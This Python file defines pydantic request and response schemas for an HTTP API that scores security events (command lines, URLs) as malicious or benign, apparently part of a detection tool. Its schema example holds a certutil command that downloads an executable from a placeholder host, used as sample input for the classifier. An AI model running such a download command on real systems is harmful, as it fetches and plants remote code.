"""Request and response bodies of the HTTP API (they make the OpenAPI schema at ``/openapi.json``)."""

from __future__ import annotations

from pydantic import BaseModel, ConfigDict, Field, model_validator

__all__ = ["ScoreRequest", "ScoreResult", "ScoreResponse", "ModelInfo", "Health"]

#: Most texts in one request; larger jobs belong to ``distilsec score`` (streaming, bounded memory).
MAX_TEXTS = 4096


class ScoreRequest(BaseModel):
    """One event (``text``) or a batch (``texts``), for the model named ``model`` (default: the first)."""

    model_config = ConfigDict(
        extra="forbid",
        json_schema_extra={"examples": [{"text": "certutil -urlcache -f http://x/a.exe a.exe"}, {"texts": ["ls -la"]}]},
    )

    text: str | None = Field(None, description="One event (a URL, a command line...).")
    texts: list[str] | None = Field(None, max_length=MAX_TEXTS, description="A batch of events (may be empty).")
    model: str | None = Field(None, description="Model name from /v1/models; default: the first one served.")
    proba: bool = Field(False, description="Also return every class probability.")

    @model_validator(mode="after")
    def _one_of(self) -> ScoreRequest:
        if (self.text is None) == (self.texts is None):
            raise ValueError("give exactly one of 'text' (one event) or 'texts' (a list of events)")
        return self


class ScoreResult(BaseModel):
    score: float = Field(description="Probability that the event is not benign (malicious).")
    label: str = Field(description="Decision at the threshold stored in the bundle.")
    proba: dict[str, float] | None = None


class ScoreResponse(BaseModel):
    model: str
    runtime: str
    results: list[ScoreResult]
    score: float | None = Field(None, description="For a single 'text': its score (same as results[0]).")
    label: str | None = Field(None, description="For a single 'text': its label (same as results[0]).")


class ModelInfo(BaseModel):
    name: str
    type: str
    runtime: str
    classes: list[str]
    threshold: float | None
    preprocess: str
    task: str | None = None
    max_text_chars: int


class Health(BaseModel):
    status: str
    models: list[str]
